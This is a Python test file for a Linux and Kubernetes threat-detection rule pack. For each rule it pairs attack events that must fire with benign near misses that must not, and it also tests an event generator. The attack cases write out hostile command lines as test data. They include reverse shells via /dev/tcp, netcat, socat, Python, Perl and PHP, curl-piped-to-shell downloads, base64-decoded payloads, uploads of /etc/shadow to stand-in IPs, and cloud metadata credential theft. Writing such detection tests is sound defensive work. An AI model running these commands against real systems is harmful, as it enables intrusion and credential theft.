"""The built-in rule pack: its shape, each rule on hand-written views (and on the same cases
ingested, through the app's own views), and the generator."""

from __future__ import annotations

import itertools
import json
import re
import shlex
from collections import Counter, defaultdict
from functools import cache
from typing import Any

import pytest

from app.generate import Truth, lines
from app.ingest import ingest
from app.neo4j.database import Database
from app.pipeline import Pipeline
from app.rules.model import Rule
from app.rules.yamlrules import load_builtin, render_actions
from tests.graphstate import rows

# -- hand-written views -------------------------------------------------------------------------

_BIN = {"sh": "/bin/sh", "bash": "/bin/bash", "dash": "/bin/dash"}


def P(cmd: str | list[str], exe: str | None = None, **fields: Any) -> dict[str, Any]:
    """Returns a process from a command line; `exe` defaults to /usr/bin/<argv0>."""
    args = shlex.split(cmd) if isinstance(cmd, str) else list(cmd)
    first = args[0]
    exe = exe or (first if first.startswith("/") else _BIN.get(first, f"/usr/bin/{first}"))
    data = {
        "key": None, "pid": 4242, "ppid": 4200, "exe": exe, "comm": exe.rsplit("/", 1)[-1][:15],
        "args": args, "cmdline": " ".join(args), "cwd": "/", "uid": 0, "user": "root",
        "gid": 0, "group": "root", "auid": 4294967295, "session_id": 4294967295, "tty": None,
        "cgroup": None, "service": None, "container_id": None, "session_kind": None,
        "session_user": None,
    }  # fmt: skip
    data.update(fields)
    return data


Proc = dict[str, Any] | str | list[str]


def as_proc(p: Proc) -> dict[str, Any]:
    return dict(p) if isinstance(p, dict) else P(p)


def V(
    kind: str = "process_exec",
    p: Proc = "true",
    parent: Proc | None = "bash",
    ancestors: tuple[Proc, ...] = (),
    box: bool = False,
    **event: Any,
) -> dict[str, Any]:
    """Returns a view; strings are command lines, `box` puts the process in the web pod."""
    me = as_proc(p)
    container = pod = None
    if box:
        container = {
            "id": "c0ffee",
            "name": "web",
            "image": "registry.example.com/shop/web:1.8",
            "runtime": "containerd",
        }
        pod = {
            "uid": "u-1",
            "name": "web-7d9c",
            "namespace": "shop",
            "workload": "deployment/web",
            "cluster": "prod",
        }
        me["container_id"] = container["id"]
    return {
        "event": {
            "id": "e1",
            "kind": kind,
            "ts": "2026-01-05T08:00:00.000000000Z",
            "source": "test",
            "host_id": "node-1",
            "container_id": container["id"] if container else None,
            **event,
        },
        "process": me,
        "parent": as_proc(parent) if parent is not None else None,
        "ancestors": [as_proc(a) for a in ancestors],
        "container": container,
        "pod": pod,
    }


NGINX = P("nginx: worker process", exe="/usr/sbin/nginx", user="www-data", uid=33)
PHP = P("php-fpm: pool www", exe="/usr/sbin/php-fpm8.2", user="www-data", uid=33)
JAVA = P("/usr/bin/java -jar /opt/app/app.jar", exe="/usr/lib/jvm/java-17-openjdk-amd64/bin/java")
JENKINS = P("java -jar /usr/share/jenkins/jenkins.war", exe="/usr/lib/jvm/java-17/bin/java")
POSTGRES = P(
    "postgres: 16/main: app appdb 10.0.1.11(50312) COPY",
    exe="/usr/lib/postgresql/16/bin/postgres",
    user="postgres",
)
ARCHIVER = P("postgres: 16/main: archiver", exe="/usr/lib/postgresql/16/bin/postgres")
REDIS = P("redis-server *:6379", exe="/usr/local/bin/redis-server")
CRON = P("/usr/sbin/cron -f -P", exe="/usr/sbin/cron")
SSHD = P("sshd: alice@pts/0", exe="/usr/sbin/sshd")
RUNC = P("runc exec --process /tmp/runc-process1 c0ffee", exe="/usr/bin/runc")
SH_C = P(["sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"])
AGENT = P(  # the Merlin agent of the Tetragon capture, built by `go run` in /tmp
    "/tmp/go-build3518135900/b001/exe/main -v -url https://main.linux-libs.org:443 -proto h2",
    cwd="/opt/merlin-agent/",
)
ADMIN = {"tty": "pts/0", "auid": 1000, "session_id": 12}
K8S = {"session_kind": "k8s", "session_user": "alice@example.com", "tty": "pts/0"}
CREDS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-prod-role"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def E(p: Proc, parent: Proc | None = "bash", **kw: Any) -> dict[str, Any]:
    """Returns the view of a process_exec."""
    return V("process_exec", p, parent, **kw)


def net(p: Proc, ip: str, port: int, **kw: Any) -> dict[str, Any]:
    return V(
        "network_connect",
        p,
        protocol="tcp",
        family="inet",
        src_ip="10.0.1.11",
        dst_ip=ip,
        dst_port=port,
        **kw,
    )


def file(kind: str, p: Proc, path: str, **kw: Any) -> dict[str, Any]:
    return V(kind, p, path=path, **kw)


def imds(p: Proc, url: str, agent: str, **kw: Any) -> dict[str, Any]:
    return V(
        "imds_request",
        p,
        imds_cloud="aws",
        imds_url=url,
        imds_method="GET",
        server_ip="169.254.169.254",
        imds_user_agent=agent,
        **kw,
    )


CASES: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
    # rule id: ([views it fires on], [near misses it must not fire on])
    "linux.shell_from_web_server": (
        [
            E(SH_C, NGINX),
            E("sh -c id", PHP),
            E("bash", P("/usr/sbin/apache2 -k start")),
            E("/bin/busybox sh", P("/usr/sbin/lighttpd -D")),
        ],
        [
            E("sh -c logrotate", CRON),
            E("curl -s http://x", NGINX),
            V("process_fork", NGINX, NGINX),
            E("bash", JAVA),
            E("sh -c 'php artisan queue:work'", P("php artisan schedule:run")),
        ],
    ),
    "linux.shell_from_jvm": (
        [
            V(
                "process_exec",
                ["/bin/sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"],
                JAVA,
            ),
            E("bash -c whoami", P("java", exe="/opt/jdk/bin/java")),
        ],
        [
            E("sh -c 'mvn test'", JENKINS),
            E("sh", CRON),
            E("/usr/bin/jcmd 1 Thread.print", JAVA),
            E(
                "bash -c /tmp/launch_container.sh",
                P("java org.apache.hadoop.yarn.server.nodemanager.NodeManager", exe="/opt/java"),
            ),
        ],
    ),
    "linux.shell_from_database": (
        [
            E("sh -c 'curl http://203.0.113.7/x | sh'", POSTGRES),
            E("/bin/sh -i", REDIS),
            E("bash", P("/usr/sbin/mysqld", exe="/usr/sbin/mysqld")),
        ],
        [
            E("sh -c 'cp pg_wal/0001 /archive/0001'", ARCHIVER),
            E("pg_dump -h 127.0.0.1 appdb", "/bin/bash /usr/local/bin/backup.sh"),
        ],
    ),
    "linux.webshell_written": (
        [
            file("file_create", PHP, "/var/www/html/uploads/avatar.php"),
            file("file_rename", NGINX, "/var/www/tmp/x", target_path="/var/www/html/shell.JSP"),
        ],
        [
            file("file_write", NGINX, "/var/log/nginx/access.log"),
            file("file_write", "vim /var/www/html/index.php", "/var/www/html/index.php"),
            file("file_open", PHP, "/var/www/html/index.php"),
        ],
    ),
    "linux.reverse_shell_dev_tcp": (
        [
            E(["/bin/sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]),
            E(["bash", "-c", "exec 5<>/dev/udp/evil.example.net/53"]),
        ],
        [
            E(["bash", "-c", "</dev/tcp/localhost/5432"]),
            E(["bash", "-c", "echo > /dev/tcp/127.0.0.1/80"]),
            E("ls /dev/tcp"),
        ],
    ),
    "linux.reverse_shell_netcat": (
        [
            E("nc -e /bin/sh 203.0.113.7 4444"),
            E("ncat --sh-exec 'bash -i' 203.0.113.7 443"),
            V(
                "process_exec",
                [
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1"
                    "|nc 203.0.113.7 4444 >/tmp/f",
                ],
            ),
        ],
        [
            E("nc -zv 10.0.0.1 443"),
            E("nc 10.0.0.1 80"),
            E("mkfifo /tmp/pipe"),
        ],
    ),
    "linux.reverse_shell_socat": (
        [
            E("socat tcp:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid"),
            E("socat OPENSSL:203.0.113.7:443,verify=0 SYSTEM:/bin/sh"),
        ],
        [
            E("socat TCP-LISTEN:8080,fork TCP:backend:80"),
            E("socat - UNIX-CONNECT:/run/app.sock"),
        ],
    ),
    "linux.reverse_shell_interpreter": (
        [
            V(
                "process_exec",
                [
                    "python3",
                    "-c",
                    "import socket,subprocess,os;s=socket.socket();"
                    "s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);"
                    "subprocess.call(['/bin/sh','-i'])",
                ],
            ),
            V(
                "process_exec",
                [
                    "perl",
                    "-e",
                    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);"
                    "connect(S,sockaddr_in(4444,inet_aton('203.0.113.7')));"
                    "open(STDIN,'>&S');exec('/bin/sh -i');",
                ],
            ),
            V(
                "process_exec",
                ["php", "-r", "$s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');"],
            ),
        ],
        [
            E(["python", "-c", "import app; print(app.__version__)"]),
            E("python3 -m http.server 8000"),
            E(["python3", "-c", "import socket; print(socket.gethostname())"]),
        ],
    ),
    "linux.shell_network_connection": (
        [net(P("bash -i"), "198.51.100.9", 4444), net("sh", "2001:db8::7", 443)],
        [
            net("bash", "127.0.0.1", 80),
            net("curl -s http://198.51.100.9", "198.51.100.9", 80),
            V("network_connect", "bash", family="unix"),
        ],
    ),
    "linux.reverse_shell_port": (
        [
            net("python3 -c 'x'", "203.0.113.7", 4444),
            net("bash", "203.0.113.7", 1337),
            net("nc 203.0.113.7 9001", "203.0.113.7", 9001),
        ],
        [
            net(JAVA, "10.0.3.20", 4444),
            net("nc 10.0.0.1 443", "10.0.0.1", 443),
            net("python3 x.py", "127.0.0.1", 4444),
        ],
    ),
    "linux.interactive_shell_without_tty": (
        [
            E("bash -i", P(["/bin/sh", "-c", "bash -i >& /dev/tcp/h/4444 0>&1"])),
            E("sh -i", "nc -l -p 4444"),
        ],
        [
            E(P("bash -i", tty="pts/0")),
            E("bash -i", SSHD),
            E("bash -c id", JAVA),
        ],
    ),
    "linux.pty_upgrade": (
        [
            E(["python3", "-c", "import pty; pty.spawn('/bin/bash')"]),
            E("script -qc /bin/bash /dev/null"),
        ],
        [
            E("script -q session.log"),
            E(["python3", "-c", "import os; print(os.getcwd())"]),
        ],
    ),
    "linux.download_piped_to_shell": (
        [
            E(SH_C, NGINX),
            E(["bash", "-c", "wget -qO- https://x.example/i.sh | sudo bash"]),
            E(["bash", "-c", "bash <(curl -s https://x.example/i.sh)"]),
        ],
        [
            V(
                "process_exec",
                [
                    "/bin/sh",
                    "-c",
                    "curl -fsS http://127.0.0.1:10248/healthz >/dev/null || logger kubelet down",
                ],
            ),
            E(["sh", "-c", "curl -s https://api.example.com | jq ."]),
            E("curl -s http://203.0.113.7/x.sh"),
        ],
    ),
    "linux.base64_decoded_command": (
        [
            V(
                "process_exec",
                ["sh", "-c", "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | sh"],
            ),
            E(["bash", "-c", "$(echo ZWNobyBoaQ== | base64 --decode)"]),
            V(
                "process_exec",
                ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"],
            ),
        ],
        [
            E(["sh", "-c", "base64 -d cert.b64 > cert.pem"]),
            E(["sh", "-c", "echo $TOKEN | base64 -d > /tmp/t"]),
        ],
    ),
    "linux.download_to_temp_dir": (
        [
            E("curl -s -o /tmp/.k http://dl.example.net/k"),
            E("wget -O/dev/shm/x http://dl.example.net/x"),
            file("file_create", "wget http://dl.example.net/x", "/var/tmp/x"),
        ],
        [
            E("curl -o /var/backups/x http://dl.example.net/x"),
            file("file_create", "curl -O http://dl.example.net/x", "/home/u/x"),
            file("file_create", "gcc -o /tmp/a.out a.c", "/tmp/a.out"),
        ],
    ),
    "linux.download_from_ip_address": (
        [
            E("curl -s http://203.0.113.7/x.sh"),
            E("wget http://198.51.100.9:8000/k"),
            E("curl -sO 198.51.100.9/k"),
        ],
        [
            E("curl -fsS http://127.0.0.1:8080/healthz"),
            E("curl http://169.254.169.254/latest/meta-data/"),
            E("curl https://example.com/x"),
            E("curl http://10.0.0.5/"),
            E("curl -s -X POST --data-binary @- http://203.0.113.7/c"),
        ],
    ),
    "linux.upload_to_ip_address": (
        [
            E("curl -s -X POST --data-binary @- http://203.0.113.7/c"),
            E("curl -F f=@/etc/passwd 198.51.100.9:8080"),
            E("wget --post-file=/etc/shadow http://198.51.100.9/"),
        ],
        [
            E("curl -X POST -d '{}' http://10.0.3.20:8443/api"),
            E("curl -d x https://api.example.com"),
            E("curl -s http://203.0.113.7/x.sh"),
        ],
    ),
    "linux.cron_file_write": (
        [
            file(
                "file_rename",
                "crontab -",
                "/var/spool/cron/crontabs/tmp.abc",
                target_path="/var/spool/cron/crontabs/www-data",
            ),
            file("file_write", "bash", "/etc/cron.d/backdoor"),
            file("file_write", "sh", "/etc/crontab"),
        ],
        [
            file("file_write", "/usr/bin/dpkg --unpack x.deb", "/etc/cron.d/sysstat"),
            file("file_open", "crontab -l", "/var/spool/cron/crontabs/www-data"),
            file("file_write", "bash", "/etc/cron.deny"),
        ],
    ),
    "linux.crontab_replaced": (
        [
            E("crontab -"),
            E("crontab /tmp/cron.txt"),
            E("crontab -u root /tmp/x"),
        ],
        [
            E("crontab -l"),
            E("crontab -e"),
            E("crontab"),
            E("crontab -u bob -l"),
        ],
    ),
    "linux.systemd_unit_write": (
        [
            file("file_create", "bash", "/etc/systemd/system/kworker.service"),
            file("file_write", "python3 x.py", "/home/bob/.config/systemd/user/sync.service"),
            file("file_rename", "mv a b", "/tmp/a", target_path="/lib/systemd/system/x.timer"),
        ],
        [
            file("file_write", "/usr/bin/dpkg --unpack", "/lib/systemd/system/nginx.service"),
            file(
                "file_create",
                "systemctl enable app",
                "/etc/systemd/system/multi-user.target.wants/app.service",
            ),
            file("file_write", "bash", "/etc/systemd/journald.conf"),
        ],
    ),
    "linux.account_file_write": (
        [
            file("file_write", "bash", "/etc/passwd"),
            file("file_rename", "python3 x.py", "/etc/passwd+", target_path="/etc/passwd"),
        ],
        [
            file("file_rename", "useradd -m eve", "/etc/passwd+", target_path="/etc/passwd"),
            file("file_open", SSHD, "/etc/passwd"),
            file("file_write", "bash", "/etc/passwd.bak"),
        ],
    ),
    "linux.sudoers_write": (
        [
            file("file_create", "sh", "/etc/sudoers.d/99-backdoor"),
            file("file_write", "tee -a /etc/sudoers", "/etc/sudoers"),
        ],
        [
            file("file_write", "visudo", "/etc/sudoers.tmp"),
            file("file_open", "sudo -i", "/etc/sudoers"),
        ],
    ),
    "linux.ssh_authorized_keys_write": (
        [
            file("file_write", "bash", "/root/.ssh/authorized_keys"),
            file("file_rename", "sh", "/tmp/k", target_path="/home/alice/.ssh/authorized_keys2"),
        ],
        [
            file("file_open", SSHD, "/home/alice/.ssh/authorized_keys"),
            file("file_write", "ssh git@github.com", "/home/alice/.ssh/known_hosts"),
        ],
    ),
    "linux.ld_preload_write": (
        [
            file("file_write", "sh", "/etc/ld.so.preload"),
            E(["sh", "-c", "LD_PRELOAD=/tmp/.x.so ls"]),
        ],
        [
            E(["sh", "-c", "LD_PRELOAD=/usr/lib/libjemalloc.so java -jar a.jar"]),
            file("file_open", "ls", "/etc/ld.so.preload"),
        ],
    ),
    "linux.imds_credentials_by_tool": (
        [
            imds(
                P("curl -s " + CREDS),
                CREDS,
                "curl/7.88.1",
                role="web-prod-role",
                access_key_id="ASIAEXAMPLE",
            ),
            imds(
                P(["python3", "-c", "import urllib.request as u; print(u.urlopen('x').read())"]),
                CREDS,
                "Python-urllib/3.11",
            ),
            imds({**P("x"), "exe": None}, CREDS, "Wget/1.21"),
        ],
        [
            imds(JAVA, CREDS, "aws-sdk-java/2.25.11"),
            imds(P("aws s3 cp x s3://b/", exe="/usr/local/bin/aws"), CREDS, "aws-cli/2.15.30"),
            imds(P("curl -s x"), "http://169.254.169.254/latest/meta-data/instance-id", "curl/8"),
        ],
    ),
    "linux.imds_connection_by_tool": (
        [
            net(P("curl -s " + CREDS), "169.254.169.254", 80),
            net(P(["python3", "-c", "import requests"]), "169.254.169.254", 80),
        ],
        [
            net(JAVA, "169.254.169.254", 80),
            net("curl -s http://127.0.0.1", "127.0.0.1", 80),
            net(P("python3 /usr/bin/cloud-init"), "169.254.169.254", 80),
        ],
    ),
    "linux.shadow_read": (
        [
            file("file_open", "cat /etc/shadow", "/etc/shadow"),
            file("file_open", P("cp /etc/shadow /tmp/s", tty="pts/1"), "/etc/shadow"),
        ],
        [
            file("file_open", SSHD, "/etc/shadow"),
            file("file_open", "tar czf /var/backups/etc.tar.gz /etc", "/etc/shadow"),
            file("file_open", P("cat /etc/shadow", **ADMIN), "/etc/shadow"),
            file("file_open", "cat /etc/passwd", "/etc/passwd"),
        ],
    ),
    "k8s.service_account_token_read": (
        [
            file("file_open", P("cat " + TOKEN), TOKEN, box=True),
            E(P("cat " + TOKEN), box=True),
            file("file_open", P("head -c 20 x"), "/run/secrets/kubernetes.io/serviceaccount/token"),
        ],
        [
            file("file_open", P("python -m app", exe="/usr/local/bin/python3.12"), TOKEN, box=True),
            file("file_open", P("cat x"), "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
            E(P("ls /var/run/secrets/kubernetes.io/serviceaccount/"), box=True),
        ],
    ),
    "linux.shell_history_tampering": (
        [
            file("file_unlink", "rm -f /home/alice/.bash_history", "/home/alice/.bash_history"),
            E("ln -sf /dev/null /root/.bash_history"),
            E(["sh", "-c", "export HISTFILE=/dev/null; id"]),
            E(["bash", "-c", "history -c"]),
            E("shred -u /root/.zsh_history"),
        ],
        [
            file("file_write", "bash", "/home/alice/.bash_history"),
            E("cat /root/.bash_history"),
            E("ln -s /opt/x /usr/bin/x"),
            file("file_unlink", "vim x", "/home/alice/.notes.md.swp"),
        ],
    ),
    "linux.exec_from_temp_dir": (
        [E("/tmp/.k"), E("/dev/shm/kworker -B")],
        [E("ls -la /tmp"), E("/tmpdata/bin/tool")],
    ),
    "linux.temp_file_made_executable": (
        [
            file("file_chmod", "chmod +x /tmp/.k", "/tmp/.k", mode=0o755),
            E("chmod +x /tmp/.k"),
            E("chmod 755 /dev/shm/x"),
        ],
        [
            file("file_chmod", "dpkg", "/usr/bin/nmap.dpkg-new", mode=0o755),
            file("file_chmod", "chmod 644 /tmp/x", "/tmp/x", mode=0o644),
            E("chmod 600 /tmp/x"),
            E("chmod +x /opt/app/run.sh"),
        ],
    ),
    "linux.setuid_bit_set": (
        [
            file("file_chmod", "chmod 4755 /tmp/sh", "/tmp/sh", mode=0o4755),
            E("chmod u+s /bin/bash"),
            E("chmod 2755 /tmp/x"),
        ],
        [
            file("file_chmod", "/usr/bin/dpkg --unpack", "/usr/bin/passwd", mode=0o4755),
            file("file_chmod", "chmod +x x", "/tmp/.k", mode=0o755),
            E("chmod 755 x"),
            E("chmod +x x"),
        ],
    ),
    "linux.network_scanner": (
        [
            E(P("nmap -sT -p 443,6443,10250 10.0.1.0/28"), box=True),
            E("masscan -p1-65535 10.0.0.0/8"),
            E("nc -zv 10.0.0.1 22"),
        ],
        [E("nc 10.0.0.1 80"), E("ss -tlnp")],
    ),
    "linux.account_discovery": (
        [
            E("id", SH_C),
            E("whoami", P("bash", tty="pts/1")),
            E("cat /etc/passwd", "bash -i"),
        ],
        [
            E("id -u", "sh /usr/local/bin/backup.sh"),
            E(P("whoami", **ADMIN)),
            E("cat /etc/os-release"),
        ],
    ),
    "linux.crypto_miner": (
        [
            E("/tmp/xmrig -o pool.minexmr.com:4444"),
            E("/var/tmp/kworker --donate-level 1 -o x:3333"),
            E("/dev/shm/.x -a rx/0 -o x:80"),
        ],
        [E("top -b -n 1"), E("/usr/bin/mine --level 3")],
    ),
    "linux.mining_pool": (
        [
            E("./kthreadd -o stratum+tcp://pool.minexmr.com:4444 -u 4A"),
            V("dns_query", "/tmp/x", dns_name="pool.supportxmr.com", dns_type="A"),
            V("dns_query", "/tmp/x", dns_name="eu1.NanoPool.org"),
        ],
        [
            V("dns_query", "ssh", dns_name="github.com"),
            V("dns_query", "curl", dns_name="notnanopool.org"),
            E("curl https://minexmr.com.example/"),
        ],
    ),
    "k8s.kubectl_exec_shell": (
        [
            E(P("bash", **K8S), RUNC, box=True),
            E(P("sh", **K8S), RUNC, box=True),
        ],
        [
            E(P("id", **K8S), P("bash", **K8S), box=True),
            E(P("bash", **K8S), P("bash", **K8S), box=True),
            E(P("-bash", exe="/bin/bash", session_kind="ssh"), SSHD),
            E(P("redis-cli ping"), RUNC, box=True),
        ],
    ),
    "k8s.package_manager_in_container": (
        [
            E(P("apt-get install -y nmap", **K8S), box=True),
            E(P("pip install requests", exe="/usr/local/bin/pip"), box=True),
            E(P("python3 -m pip install x"), box=True),
            E(P("apk add --no-cache socat", exe="/sbin/apk"), box=True),
        ],
        [
            E("apt-get -qq -y update", "/bin/sh /usr/lib/apt/apt.systemd.daily"),
            E(P("pip list", exe="/usr/local/bin/pip"), box=True),
            E(P("python -m app.cli cleanup-sessions"), box=True),
        ],
    ),
    "k8s.api_server_access_from_container": (
        [
            V(
                "process_exec",
                P(
                    [
                        "curl",
                        "-sk",
                        "-H",
                        "Authorization: Bearer eyJ",
                        "https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
                    ]
                ),
                box=True,
            ),
            V(
                "dns_query",
                P("curl -sk https://kubernetes.default.svc"),
                box=True,
                dns_name="kubernetes.default.svc.cluster.local",
            ),
        ],
        [
            V(
                "dns_query",
                P("python -m app"),
                box=True,
                dns_name="kubernetes.default.svc.cluster.local",
            ),
            E("curl -sk https://kubernetes.default.svc/api/v1/pods"),
            E(P("curl http://redis.shop.svc:6379"), box=True),
        ],
    ),
    "k8s.nsenter_host_namespaces": (
        [
            E("nsenter -t 1 -m -u -i -n sh", box=True),
            E("nsenter --target=1 --mount --pid"),
            E("nsenter --mount=/proc/1/ns/mnt -- bash"),
        ],
        [
            E("nsenter -t 12345 -n ip addr"),
            E("nsenter -t 10 -n ss -tlnp"),
        ],
    ),
    "k8s.host_disk_mount": (
        [
            E("mount /dev/sda1 /mnt", box=True),
            E("mount -t ext4 /dev/nvme0n1p1 /host", box=True),
        ],
        [
            E("mount /dev/sdb1 /data"),
            E("mount -t tmpfs tmpfs /scratch", box=True),
        ],
    ),
    "k8s.chroot_to_host": (
        [E("chroot /host", box=True), E("chroot /host/ bash")],
        [E("chroot /srv/jail /bin/sh"), E("chroot /hostile")],
    ),
    "linux.kernel_module_load": (
        [
            E("insmod /tmp/diamorphine.ko", "bash"),
            E("modprobe overlay", box=True),
        ],
        [
            E("modprobe nf_conntrack", "/lib/systemd/systemd-modules-load"),
            E("modprobe overlay", "bash"),
            E("insmod /lib/modules/6.8.0/kernel/fs/x.ko", "bash"),
        ],
    ),
    "linux.connection_from_temp_dir": (
        [
            net(AGENT, "34.116.205.187", 443),
            net(P("/dev/shm/.x/kworker", exe="/dev/shm/.x/kworker"), "10.0.3.20", 8443),
            net(P("/root/.cache/.u/upd", exe="/root/.cache/.u/upd"), "2001:db8::7", 443),
            net(P("/home/alice/.config/x/agent", exe="/home/alice/.config/x/agent"), "8.8.8.8", 53),
        ],
        [
            net(AGENT, "127.0.0.1", 8080),
            net(AGENT, "::1", 8080),
            V("network_connect", AGENT, family="unix"),
            net("curl -s https://34.116.205.187", "34.116.205.187", 443),
            net(P("node", exe="/home/alice/.vscode-server/bin/abc/node"), "13.107.5.3", 443),
            net(P("aws", exe="/home/alice/.local/bin/aws"), "52.218.48.10", 443),
            net(P("/opt/tmp/agent", exe="/opt/tmp/agent"), "34.116.205.187", 443),
        ],
    ),
    "linux.data_archived_by_program": (
        [
            E(P(["/bin/sh", "-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/"]), AGENT),
            E(P(["sh", "-c", "tar czf /tmp/h.tgz /home/alice"]), JAVA),
            E(P(["sh", "-c", "cd /var/www && zip -r /tmp/w.zip html/"]), PHP),
            E(P(["bash", "-c", 'rar a x.rar "/srv/share/finance/"']), NGINX),
            E("/usr/bin/7z a s.7z ../ops_bank_accounts/", AGENT),
            E("tar -cf /dev/shm/d.tar /data/db/", JAVA),
        ],
        [
            E("7z a s.7z ../ops_bank_accounts/", "bash"),
            E(P(["sh", "-c", "tar czf /backup/home.tgz /home"]), CRON),
            E(P(["sh", "-c", "tar czf /var/backups/etc.tar.gz /etc"]), JAVA),
            E(P(["sh", "-c", "tar xzf x.tgz -C data/"]), JAVA),
            E(P(["sh", "-c", "unzip x.zip -d data/"]), JAVA),
            E(P(["sh", "-c", "gzip -9 logs/app.log"]), JAVA),
            E("tar cf - /data/db", RUNC),
            E("tar czf /var/backups/etc.tar.gz /etc", P("/bin/bash /usr/local/bin/backup.sh")),
            E(P(["sh", "-c", "7z a s.7z ../ops/"]), SSHD),
        ],
    ),
}


@cache
def pack() -> tuple[Rule, ...]:
    return tuple(load_builtin())


def by_id(rule_id: str) -> Rule:
    return next(r for r in pack() if r.id == rule_id)


# -- the pack ---------------------------------------------------------------------------------


def test_the_pack_loads_with_enough_rules_and_unique_ids() -> None:
    ids = [r.id for r in pack()]
    assert len(ids) >= 25
    assert len(set(ids)) == len(ids)
    assert all(i.startswith(("linux.", "k8s.")) for i in ids)
    assert all(r.source == "builtin" for r in pack())


def test_every_rule_is_documented_and_actionable() -> None:
    for r in pack():
        assert r.title and r.description and len(r.description) > 40, r.id
        assert r.tactic and r.technique, r.id
        assert r.actions, r.id
        assert r.kinds and "alert" not in r.kinds, r.id


def test_exactly_the_exploitation_rules_mark_processes_compromised() -> None:
    assert {r.id for r in pack() if r.compromises} == {
        "linux.shell_from_web_server",
        "linux.shell_from_jvm",
        "linux.shell_from_database",
    }


def test_every_rule_has_test_cases() -> None:
    # a multi-event rule has its own tests (tests/rules/test_beaconing.py)
    assert set(CASES) == {r.id for r in pack() if r.beaconing is None}
    assert {r.id for r in pack() if r.beaconing is not None} == {"linux.beaconing"}
    for positives, negatives in CASES.values():
        assert positives and negatives


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_its_positives_and_not_on_near_misses(rule_id: str) -> None:
    r = by_id(rule_id)
    positives, negatives = CASES[rule_id]
    for i, v in enumerate(positives):
        assert r.matches(v), f"{rule_id} missed positive #{i}: {v['process']['cmdline']}"
    for i, v in enumerate(negatives):
        assert not r.matches(v), f"{rule_id} fired on negative #{i}: {v['process']['cmdline']}"


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_actions_render_on_its_positives(rule_id: str) -> None:
    r = by_id(rule_id)
    v = CASES[rule_id][0][0]
    rendered = render_actions(r, v)
    # an action whose target the view lacks (an address, a path) is left out
    assert 1 <= len(rendered) <= len(r.actions)
    for text in rendered:
        assert "{" not in text and "}" not in text, text
        assert " ? " not in f" {text} " and "(?)" not in text, text  # no "?" for a value


def test_no_rule_fires_on_sensor_alerts() -> None:
    alert = V(
        "alert", SH_C, NGINX, rule_id="sensor.shell_from_webserver", title="x", severity="high"
    )
    assert not [r.id for r in pack() if r.matches(alert)]


# -- the generator ----------------------------------------------------------------------------

_EVENT_PARTS: dict[str, tuple[str, tuple[str, ...]]] = {
    "file": ("", ("path", "target_path", "mode", "flags")),
    "network": ("", ("protocol", "family", "src_ip", "src_port", "dst_ip", "dst_port")),
    "dns": ("dns_", ("name", "type", "answers")),
    "imds": ("imds_", ("cloud", "url", "method", "user_agent")),
    "alert": ("", ("rule_id", "title", "severity", "description", "tactic", "technique",
                   "compromises", "on_event")),
}  # fmt: skip
_IMDS_PLAIN = ("server_ip", "role", "access_key_id")


class Viewer:
    """Turns generated events into views as the app builds them from the graph.

    A parent is completed from its own earlier exec, lineage beyond the parent comes
    from memory where the sensor ships none (auditd hosts), and a user session sticks
    to the process that carried it.
    """

    def __init__(self) -> None:
        self.procs: dict[str, dict[str, Any]] = {}
        self.parent_of: dict[str, str] = {}

    @staticmethod
    def identity(host: str, p: dict[str, Any]) -> str:
        return p.get("key") or f"{host}|{p.get('pid')}|{p.get('start_time')}"

    @staticmethod
    def _proc(p: dict[str, Any]) -> dict[str, Any]:
        args = p.get("args") or []
        return {**p, "args": args, "cmdline": " ".join(args) or None}

    def view(self, ev: dict[str, Any]) -> dict[str, Any]:
        host, container = ev["host"]["id"], ev.get("container")
        me = self.identity(host, ev["process"])
        known = self.procs.get(me, {})
        process = {
            "session_kind": known.get("session_kind"),
            "session_user": known.get("session_user"),
            **self._proc(ev["process"]),
            "container_id": container["id"] if container else None,
        }
        if ev.get("session"):
            process["session_kind"] = ev["session"]["kind"]
            process["session_user"] = ev["session"].get("user")
        self.procs[me] = process
        parent, ancestors = None, [self._proc(a) for a in ev.get("ancestors") or []]
        if ev.get("parent"):
            up = self.identity(host, ev["parent"])
            self.parent_of[me] = up
            parent = {**self.procs.get(up, {}), **self._proc(ev["parent"])}
            above, seen = self.parent_of.get(up), {me, up}
            while not ev.get("ancestors") and above in self.procs and above not in seen:
                seen.add(above)
                ancestors.append(self.procs[above])
                above = self.parent_of.get(above)
        event = {
            "id": ev["id"],
            "kind": ev["kind"],
            "ts": ev["ts"],
            "source": ev["source"],
            "host_id": host,
            "container_id": process["container_id"],
            "exit_code": ev.get("exit_code"),
            "signal": ev.get("signal"),
        }
        for part, (prefix, names) in _EVENT_PARTS.items():
            body = ev.get(part) or {}
            event.update((prefix + n, body.get(n)) for n in names)
        imds_body = ev.get("imds") or {}
        event.update((n, imds_body.get(n)) for n in _IMDS_PLAIN)
        return {
            "event": event,
            "process": process,
            "parent": parent,
            "ancestors": ancestors,
            "container": container,
            "pod": ev.get("pod"),
        }


@cache
def generated(seed: int, events: int) -> tuple[tuple[dict[str, Any], ...], Truth]:
    truth = Truth(seed, events, 3, True)
    viewer = Viewer()
    views = tuple(viewer.view(json.loads(line)) for line in lines(seed, events, truth=truth))
    return views, truth


def test_viewer_builds_views_the_rules_can_read() -> None:
    views, truth = generated(11, 6000)
    assert len(views) == 6000
    webshell = next(c for c in truth.chains if c.kind == "webshell")
    (root,) = [
        v
        for v in views
        if v["event"]["kind"] == "process_exec"
        and Viewer.identity(v["event"]["host_id"], v["process"]) == webshell.root
    ]
